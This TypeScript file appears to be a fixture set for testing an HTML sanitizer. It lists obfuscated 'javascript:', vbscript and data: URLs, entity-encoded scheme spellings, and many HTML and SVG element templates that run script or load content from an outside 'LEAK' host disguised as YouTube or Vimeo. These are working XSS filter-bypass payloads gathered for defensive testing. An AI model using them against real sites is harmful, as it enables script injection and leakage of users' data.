/** Addresses that run code or reach other hosts, in every spelling that browsers accept, and elements that use addresses. */
import { each, LEAK, RUN } from './tokens';

/** Spellings of addresses that run code. */
export const CODE_ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\rscript:${RUN}`,
  `java\r\n\t script:${RUN}`,
  `javascript\t:${RUN}`,
  `javascript\n:${RUN}`,
  ` javascript:${RUN}`,
  `\n\t\r javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u001f\u001ejavascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `\u2028javascript:${RUN}`,
  `\ufeffjavascript:${RUN}`,
  `\u3000javascript:${RUN}`,
  `javascript://x/%0a${RUN}`,
  `javascript://x/%0d${RUN}`,
  `javascript://x/%E2%80%A8${RUN}`,
  `javascript:/*https://x*/${RUN}`,
  `javascript:void(${RUN})`,
  `javascript:"<script>parent.${RUN}</script>"`,
  `javascript:https://x.example/;${RUN}`,
  `javascript:mailto:${RUN}`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `jar:javascript:${RUN}`,
  `blob:javascript:${RUN}`,
  `filesystem:javascript:${RUN}`,
  `about:javascript:${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:text/html;charset=utf-8,<script>top.${RUN}</script>`,
  `DATA:TEXT/HTML,<body onload=top.${RUN}>`,
  `data:,<script>parent.${RUN}</script>`,
  `da\tta:text/html,<script>top.${RUN}</script>`,
  `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">top.${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${RUN}"/>`,
  `data:text/xml,<x xmlns="http://www.w3.org/1999/xhtml"><script>top.${RUN}</script></x>`,
  `data:text/javascript,${RUN}`,
  `data:image/png,x;text/html,<script>top.${RUN}</script>`,
];

/** Host and path of another host. */
const PLACE = LEAK.replace('https://', '');

/** Addresses of another host, disguised as those of the site or of a player. */
export const HOST_ADDRESSES: readonly string[] = [
  LEAK,
  `${LEAK}/a.js`,
  `${LEAK}/a.html?youtube.com/embed/x`,
  ...each(['//', '\\\\', '/\\', '/\t/', 'https:\\\\', '\thttps://', 'h\nttps://'], (start) => start + PLACE),
  ...each(
    ['www.youtube.com', 'www.youtube.com%2f', 'player.vimeo.com:x'],
    (name) => `https://${name}@${PLACE}/embed/x`,
  ),
];

const attribute = (value: string): string => value.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const script = attribute(`javascript:${RUN}`);

/** Elements that use an address, each with one that runs code. */
const USERS: readonly ((address: string) => string)[] = [
  (to) => `<a href="${to}">x</a>`,
  (to) => `<map><area href="${to}" shape="default"></map>`,
  (to) => `<form action="${to}"><button>x</button></form>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<svg><a xlink:href="${to}"><text y="9">x</text></a></svg>`,
  (to) => `<svg><a href="${to}"><text y="9">x</text></a></svg>`,
  (to) => `<math href="${to}"><mi>x</mi></math>`,
  (to) => `<math><mrow xlink:href="${to}"><mi>x</mi></mrow></math>`,
  (to) => `<object data="${to}"></object>`,
  (to) => `<embed src="${to}">`,
  (to) => `<form><button formaction="${to}">x</button></form>`,
  (to) =>
    `<form><input type="submit" formaction="${to}"><input type="image" formaction="${to}" src="/none.png"></form>`,
  (to) => `<base href="${to}"><a href="x">x</a>`,
  (to) => `<frameset><frame src="${to}"></frameset>`,
  (to) => `<svg><use href="${to}#x"></use><use xlink:href="${to}#x"></use></svg>`,
  (to) => `<svg><script href="${to}"></script></svg>`,
  (to) => `<script src="${to}"></script>`,
  (to) => `<script type="module">import "${to}"</script>`,
  (to) => `<meta http-equiv="refresh" content="0;url=${to}">`,
  (to) => `<meta http-equiv="Refresh" content="0 ; URL='${to}'">`,
  (to) => `<link rel="import" href="${to}"><link rel="modulepreload" href="${to}">`,
  (to) =>
    `<link rel="stylesheet" href="${to}"><link rel="prefetch" href="${to}"><link rel="dns-prefetch" href="${to}">`,
  (to) => `<video poster="${to}" src="${to}"></video>`,
  (to) => `<table background="${to}"><tr><td background="${to}">x</td></tr></table>`,
  (to) => `<blockquote cite="${to}">x</blockquote><q cite="${to}">x</q><img longdesc="${to}" src="/none.png">`,
  (to) => `<a href="/x" ping="${to}">x</a>`,
  (to) => `<svg><animate attributeName="href" values="${to}"></animate></svg>`,
  (to) =>
    `<svg><a><animate attributeName="href" to="${to}" begin="0s" fill="freeze"></animate><text y="9">x</text></a></svg>`,
  (to) =>
    `<svg><a><animate attributeName="xlink:href" from="#" to="${to}" dur="1ms" fill="freeze"></animate><text y="9">x</text></a></svg>`,
  (to) => `<svg><a><set attributeName="href" to="${to}"></set><text y="9">x</text></a></svg>`,
  (to) => `<svg><a id="t-§n§"><text y="9">x</text></a><set href="#t-§n§" attributeName="HREF" to="${to}"></set></svg>`,
  (to) =>
    `<svg><a id="s-§n§"><text y="9">x</text></a><animate xlink:href="#s-§n§" attributeName=" href" values="${to};${to}" dur="1s"></animate></svg>`,
  (to) => `<svg><a id="u-§n§"><text y="9">x</text></a><set href="#u-§n§" attributeName="href " to="${to}"></set></svg>`,
  (to) => `<svg><handler href="${to}"></handler><foreignObject><iframe src="${to}"></iframe></foreignObject></svg>`,
  (to) => `<applet code="${to}" archive="${to}"></applet><param name="movie" value="${to}">`,
  (to) => `<portal src="${to}"></portal><fencedframe src="${to}"></fencedframe>`,
  (to) => `<xss-element href="${to}" src="${to}" action="${to}">x</xss-element>`,
  (to) => `<b data-href="${to}" data-src="${to}" data-url="${to}" data-link="${to}">x</b>`,
  (to) => `<img srcset="${to} 1x" src="${to}" data-src="${to}">`,
];

/** Markup with addresses that run code, or that ask another host. */
export const addresses: readonly string[] = [
  ...each(USERS, (use) => use(script)),
  ...each(CODE_ADDRESSES, (address, at) => (USERS[at % 8] as (to: string) => string)(attribute(address))),
  ...each(CODE_ADDRESSES, (address) => `<a href="${attribute(address)}">x</a>`),
  ...each(USERS.slice(0, 22), (use) => use(LEAK)),
  ...each(
    [
      '&#106;avascript:',
      '&#x6a;avascript:',
      'java&#9;script:',
      'java&Tab;script:',
      'java&NewLine;script:',
      '&#1;javascript:',
      'javascript&colon;',
      '&#0000106avascript:',
      'jav&#x0A;ascript:',
      '&Tab;javascript:',
    ],
    (start) => `<a href="${start}${RUN}">x</a><iframe src="${start}${RUN}"></iframe>`,
  ),
  `<iframe srcdoc="&lt;script>parent.${RUN}&lt;/script>"></iframe>`,
  `<iframe SrcDoc='<img src=x onerror=parent.${RUN}>' sandbox="allow-scripts allow-same-origin"></iframe>`,
  `<iframe src="about:blank#" srcdoc="<base href='${LEAK}'><script src=a.js></script>"></iframe>`,
  `<iframe src="${LEAK}" name="querySelector"></iframe>`,
  `<iframe src="https://www.youtube.com@${PLACE}/embed/x"></iframe>`,
  `<iframe src="https://www.google.com/url?q=${LEAK}"></iframe>`,
];
